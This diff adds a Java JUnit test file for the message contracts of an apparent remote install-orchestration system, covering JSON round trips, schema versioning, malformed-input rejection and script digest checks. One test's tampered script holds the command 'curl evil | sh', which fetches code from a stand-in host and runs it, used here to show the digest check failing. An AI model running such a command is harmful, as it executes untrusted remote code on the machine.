@@ -1,0 +1,129 @@
+package io.lazarus.common.contract;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.time.Instant;
+import java.time.temporal.ChronoUnit;
+import java.util.List;
+import java.util.Map;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+class ContractsTest {
+
+    private final NodeTarget node = new NodeTarget("web-01", "10.0.0.5", 2222, "deploy",
+            "ecdsa-sha2-nistp256 AAAAE2VjZHNh", Map.of("instanceId", "i-0abc"));
+    private final InstallScript script = InstallScript.of("install.sh", List.of("apt-get update", "apt-get install -y tomcat10"));
+    private final InstallMessage install = InstallMessage.firstAttempt("run-1", node, script,
+            new Timeouts(Duration.ofSeconds(5), Duration.ofSeconds(90), null, Duration.ofMinutes(20)),
+            Instant.parse("2026-11-21T12:00:00Z"));
+
+    @Test
+    void installMessageSurvivesTheRoundTrip() {
+        InstallMessage back = Contracts.readInstall(Contracts.toJson(install));
+
+        assertThat(back).isEqualTo(install);
+        assertThat(back.script().digestMatches()).isTrue();
+    }
+
+    @Test
+    void installMessageJsonIsReadableAndVersioned() {
+        String json = new String(Contracts.toJson(install), StandardCharsets.UTF_8);
+
+        assertThat(json).contains("\"schemaVersion\":1", "\"stall\":\"PT1M30S\"", "\"deadline\":\"2026-11-21T12:00:00Z\"",
+                "\"sha256\":\"" + script.sha256() + "\"");
+    }
+
+    @Test
+    void finishedEventSurvivesTheRoundTrip() {
+        AttemptResult result = new AttemptResult(Outcome.COMMAND_FAILED, 100, "command 2 exited 100", 2104,
+                List.of(new CommandResult(0, 0, 1500, 1), new CommandResult(1, 100, 604, 1)), "Reading package lists...",
+                "E: Unable to locate package tomcat10", 4096, 1, "SHA256:abc", install.timeouts());
+        AttemptEvent event = AttemptEvent.finished(install, "worker-a", true, result);
+        AttemptEvent truncated = new AttemptEvent(event.schemaVersion(), event.type(), event.attemptId(), event.runId(),
+                event.nodeId(), event.attempt(), event.at().truncatedTo(ChronoUnit.MILLIS), event.worker(),
+                event.redelivered(), event.result());
+
+        assertThat(Contracts.readEvent(Contracts.toJson(truncated))).isEqualTo(truncated);
+        assertThat(event.routingKey()).isEqualTo("run.run-1.command_failed");
+    }
+
+    @Test
+    void startedEventHasNoResultAndItsOwnRoutingKey() {
+        AttemptEvent started = AttemptEvent.started(install, "worker-a", false);
+
+        assertThat(Contracts.readEvent(Contracts.toJson(started)).result()).isNull();
+        assertThat(started.routingKey()).isEqualTo("run.run-1.started");
+    }
+
+    @Test
+    void unknownFieldsAreToleratedAsACompatibleAddition() {
+        String json = new String(Contracts.toJson(install), StandardCharsets.UTF_8)
+                .replaceFirst("\\{", "{\"addedLater\":{\"x\":1},");
+
+        assertThat(Contracts.readInstall(json.getBytes(StandardCharsets.UTF_8))).isEqualTo(install);
+    }
+
+    @Test
+    void anUnknownSchemaVersionIsRecognisedBeforeAnythingElse() {
+        String json = new String(Contracts.toJson(install), StandardCharsets.UTF_8)
+                .replace("\"schemaVersion\":1", "\"schemaVersion\":2").replace("\"node\":", "\"nodeV2\":");
+
+        assertThatThrownBy(() -> Contracts.readInstall(json.getBytes(StandardCharsets.UTF_8)))
+                .isInstanceOfSatisfying(ContractException.UnsupportedSchema.class, e -> assertThat(e.version()).isEqualTo(2))
+                .hasMessageContaining("unsupported schemaVersion 2");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "",
+            "not json at all",
+            "{\"schemaVersion\":1,",
+            "[1,2,3]",
+            "\"a string\"",
+            "{}",
+            "{\"schemaVersion\":\"one\"}",
+            "{\"schemaVersion\":1}",
+            "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1}",
+            "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"bad.run\",\"attempt\":1,\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":22,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"}}",
+            "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1,\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":70000,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"}}",
+            "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1,\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":22,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[],\"sha256\":\"x\"}}",
+            "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":\"first\",\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":22,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"}}",
+            "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1,\"node\":{\"id\":\"n\",\"host\":\"h\",\"port\":22,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"},\"timeouts\":{\"stall\":\"PT-5S\"}}"
+    })
+    void malformedInstallMessagesAreRecognisedWithAReason(String json) {
+        assertThatThrownBy(() -> Contracts.readInstall(json.getBytes(StandardCharsets.UTF_8)))
+                .isInstanceOf(ContractException.Malformed.class)
+                .message().isNotBlank();
+    }
+
+    @Test
+    void theReasonNamesTheOffendingField() {
+        String json = "{\"schemaVersion\":1,\"attemptId\":\"a\",\"runId\":\"r\",\"attempt\":1,\"node\":{\"id\":\"n\","
+                + "\"host\":\"h\",\"port\":70000,\"user\":\"u\"},\"script\":{\"name\":\"s\",\"commands\":[\"true\"],\"sha256\":\"x\"}}";
+
+        assertThatThrownBy(() -> Contracts.readInstall(json.getBytes(StandardCharsets.UTF_8)))
+                .hasMessageContaining("node.port must be 1..65535, was 70000");
+    }
+
+    @Test
+    void aTamperedScriptNoLongerMatchesItsDigest() {
+        InstallScript tampered = new InstallScript("install.sh", List.of("curl evil | sh"), script.sha256());
+
+        assertThat(tampered.digestMatches()).isFalse();
+        assertThat(InstallScript.of("one", "echo hi").sha256())
+                .isEqualTo("56a79f3b115448072387c2480044bfa2cf8f90e4f5fddd8c943b4e051b81f80b");
+    }
+
+    @Test
+    void outcomesRouteInLowerCaseAndKnowWhatIsResurrectable() {
+        assertThat(Outcome.CONNECT_FAILED.routingWord()).isEqualTo("connect_failed");
+        assertThat(List.of(Outcome.values())).filteredOn(Outcome::resurrectableByDefault)
+                .containsExactlyInAnyOrder(Outcome.CONNECT_FAILED, Outcome.STALLED, Outcome.TIMED_OUT, Outcome.DISCONNECTED);
+    }
+}
